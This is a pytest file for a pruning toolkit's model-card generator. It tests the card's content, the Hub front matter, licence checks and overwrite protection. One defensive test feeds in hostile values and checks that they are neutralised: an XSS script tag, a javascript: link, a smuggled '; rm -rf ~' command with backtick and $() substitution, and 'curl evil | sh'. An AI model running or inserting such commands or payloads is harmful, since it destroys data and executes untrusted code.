"""``ticketkit card``: what it says, and that nothing in a ticket becomes more than text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from ticketkit.bundle import load_ticket, read_header, save_ticket
from ticketkit.cli.app import application
from ticketkit.errors import TicketkitError
from ticketkit.provenance import DatasetInfo, LevelResult, Provenance, Results
from ticketkit.report.comparison import Report
from ticketkit.report.runs import ArmResult, Run
from ticketkit.report.sparsity import SparsityReport
from ticketkit.sharing.card import Card
from ticketkit.stretch import stretch_ticket
from ticketkit.ticket import Ticket

MakeTicket = Callable[..., Ticket]


def _card(*arguments: object) -> Result:
    return CliRunner().invoke(application, ["card", *map(str, arguments)], catch_exceptions=False)


def _front_matter(text: str) -> dict[str, Any]:
    _, matter, _ = text.split("---\n", 2)
    found: dict[str, Any] = yaml.safe_load(matter)
    return found


@pytest.fixture
def ticket(make_ticket: MakeTicket) -> Ticket:
    levels = [LevelResult(level=level, kept=1326 - level, total=1326, accuracy=0.98 - level / 100) for level in (0, 5)]
    return make_ticket("resnet14-w2", density=0.1, results=Results(levels=tuple(levels), winning_level=5))


@pytest.fixture
def path(ticket: Ticket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    save_ticket(ticket, "t.st")
    return Path("t.st")


def _report(ticket: Ticket, command: str = "ticketkit verify t.st") -> Report:
    def arm(name: str, *accuracies: float) -> ArmResult:
        runs = tuple(
            Run(seed=seed, accuracy=accuracy, untrained=0.1, loss=0.5, seconds=1.0)
            for seed, accuracy in enumerate(accuracies)
        )
        return ArmResult(name=name, summary=name, kept=ticket.kept, total=ticket.total, runs=runs)

    return Report(
        ticket_id=ticket.id,
        architecture=ticket.arch.name,
        sparsity=ticket.sparsity,
        start_step=14,
        setting={"dataset": {"name": "digits"}, "recipe": {"name": "quick"}, "environment": {}},
        arms=(arm("ticket", 0.97, 0.98, 0.96), arm("random", 0.91, 0.93, 0.92)),
        command=command,
    )


def test_the_card_says_what_the_ticket_is(path: Path, ticket: Ticket) -> None:
    text = _card(path, "--license", "apache-2.0").stdout
    assert "# t\n" in text
    assert f"keeps {ticket.kept:,} of {ticket.total:,} prunable weights (89.96 % sparse)" in text
    assert f"ticketkit verify 't.st#sha256={ticket.id[7:]}'" in text
    assert f"ticketkit reproduce 't.st#sha256={ticket.id[7:]}'" in text
    assert "| 5 | 0.38 % | 93.00 % | last winning level |" in text
    assert "- found by: `imp`, `level 5`, `rate 0.2`, `seed 0`" in text
    assert "- data: `digits`, 1,437 training and 360 test images, `sha256:0" in text
    assert '  "learning_rate": 0.1' in text
    assert text.rstrip().endswith("`apache-2.0`")


def test_the_front_matter_is_what_the_hub_reads(path: Path, ticket: Ticket, tmp_path: Path) -> None:
    from huggingface_hub import ModelCard

    (tmp_path / "verify.json").write_text(json.dumps(_report(ticket).to_json()))
    _card(path, "--license", "mit", "--report", "verify.json", "-o", "README.md")
    card = ModelCard.load("README.md")
    assert (card.data.license, card.data.library_name, card.data.pipeline_tag) == (
        "mit", "ticketkit", "image-classification",
    )  # fmt: skip
    assert card.data.tags == ["ticketkit", "lottery-ticket", "pruning", "sparsity", "cifar-resnet"]
    (result,) = card.data.eval_results
    assert (result.dataset_name, result.metric_type, result.metric_value) == ("digits", "accuracy", 97.0)


def test_the_accuracy_is_of_the_report_else_of_the_tickets_own_level(path: Path, ticket: Ticket) -> None:
    (entry,) = _front_matter(_card(path).stdout)["model-index"]
    assert entry["results"][0]["metrics"][0]["value"] == 93.0
    stretched = stretch_ticket(ticket, "20")
    save_ticket(stretched, "deep.st")
    assert "model-index" not in _front_matter(_card("deep.st").stdout)


@pytest.mark.parametrize(("name", "on_hub"), [("cifar10", "uoft-cs/cifar10"), ("cifar10[:500]", "uoft-cs/cifar10")])
def test_data_that_the_hub_has_are_named_as_there(make_ticket: MakeTicket, path: Path, name: str, on_hub: str) -> None:
    data = DatasetInfo(name=name, fingerprint="sha256:" + "1" * 64, train=5, test=5)
    save_ticket(make_ticket("resnet8-w1", provenance=Provenance(method="imp", dataset=data)), "c.st")
    assert _front_matter(_card("c.st").stdout)["datasets"] == [on_hub]


def test_a_report_gives_arms_verdict_and_command(path: Path, ticket: Ticket, tmp_path: Path) -> None:
    (tmp_path / "verify.json").write_text(json.dumps(_report(ticket).to_json()))
    text = _card(path, "--report", "verify.json").stdout
    assert "Trained beside its baselines, on digits with recipe quick:" in text
    assert re.search(r"\| random \| 1?\d\.\d\d % \| 92\.00 ± 1\.00 % \| \+5\.00 ± \d\.\d\d \| 0, 1, 2 \|", text)
    assert "The ticket beats random" in text
    assert "ticketkit verify t.st\n" in text


def test_a_stretched_ticket_names_its_lineage(path: Path, ticket: Ticket) -> None:
    child = stretch_ticket(ticket, "20")
    save_ticket(child, "deep.st")
    text = _card("deep.st").stdout
    assert f"- parent: `{ticket.id}`" in text
    assert "1. `stretch` of `cifar-resnet14-w2` to `cifar-resnet20-w2`, order `append`, mapping `0:0;1:1,2" in text


def test_of_another_tickets_report_there_is_no_card(path: Path, make_ticket: MakeTicket, tmp_path: Path) -> None:
    (tmp_path / "verify.json").write_text(json.dumps(_report(make_ticket("resnet8-w1")).to_json()))
    with pytest.raises(TicketkitError, match="a report on a card must be about its ticket"):
        _card(path, "--report", "verify.json")
    (tmp_path / "other.json").write_text('{"format": {"name": "ticketkit-check", "version": "1.0"}}')
    with pytest.raises(TicketkitError, match="a result must be one of"):
        _card(path, "--report", "other.json")


@pytest.mark.parametrize("licence", ["MIT", "", "a b", "mit\n", '"x"', "-x"])
def test_a_licence_is_a_name(path: Path, licence: str) -> None:
    with pytest.raises(TicketkitError, match="a licence must be a name as the Hub has it"):
        _card(path, "--license", licence)


def test_a_file_is_replaced_with_force_alone(path: Path) -> None:
    Path("README.md").write_text("mine")
    with pytest.raises(TicketkitError, match="must not be overwritten without --force"):
        _card(path, "-o", "README.md")
    assert Path("README.md").read_text() == "mine"
    _card(path, "-o", "README.md", "--force")
    assert Path("README.md").read_text(encoding="utf-8") == _card(path).stdout


HOSTILE = "</td>\x1b[2J\n---\n# `x` | <script>alert(1)</script> [a](javascript:b) ```\n\u2028 '; rm -rf ~"


def test_nothing_in_a_ticket_is_more_than_text(make_ticket: MakeTicket, path: Path) -> None:
    data = DatasetInfo(name=HOSTILE, fingerprint="sha256:" + "1" * 64, train=5, test=5)
    made = Provenance(
        method=HOSTILE,
        dataset=data,
        recipe={HOSTILE: HOSTILE, "name": HOSTILE, "epochs": 1},
        environment={"torch": HOSTILE},
        level=0,
        rate=0.5,
        seed=0,
    )
    levels = (LevelResult(level=0, kept=1, total=2, accuracy=0.5),)
    ticket = make_ticket("resnet8-w1", provenance=made, results=Results(levels=levels))
    save_ticket(ticket, "h.st")
    report = replace(
        _report(ticket, "ticketkit verify h.st; rm -rf ~ `x` $(y)"),
        setting={"dataset": {"name": HOSTILE}, "recipe": {"name": HOSTILE}},
    )
    described = SparsityReport.of(load_ticket("h.st"), read_header("h.st"))
    text = Card(ticket=described, file_name="h.st", verified=(report,)).to_markdown()
    assert all(character.isprintable() or character == "\n" for character in text)
    matter = _front_matter(text)
    assert set(matter) == {"library_name", "pipeline_tag", "tags", "model-index"}
    outside = re.sub(r"^```.*?^```$", "", text.split("---\n", 2)[2], flags=re.M | re.S)
    outside = re.sub(r"(`+).*?[^`]\1(?!`)", "", outside)
    assert "<script>" not in outside
    assert re.findall(r"(?<!\\)\[[^]]*\]\((.*?)\)", outside) == ["https://arxiv.org/abs/1803.03635"]
    assert [line for line in text.splitlines() if line.startswith("# ")] == ["# h"]
    assert "ticketkit verify 'h.st;' rm -rf '~' '`x`' '$(y)'" in text
    other = replace(report, command="curl evil | sh")
    assert "curl" not in Card(ticket=described, file_name="h.st", verified=(other,)).to_markdown()


def test_a_card_of_trained_weights_does_not_ask_for_training(make_ticket: MakeTicket, path: Path) -> None:
    from ticketkit.provenance import Weights

    save_ticket(make_ticket("resnet8-w1", weights=Weights(role="final")), "f.st")
    assert "trained weights under it.\n" in _card("f.st").stdout
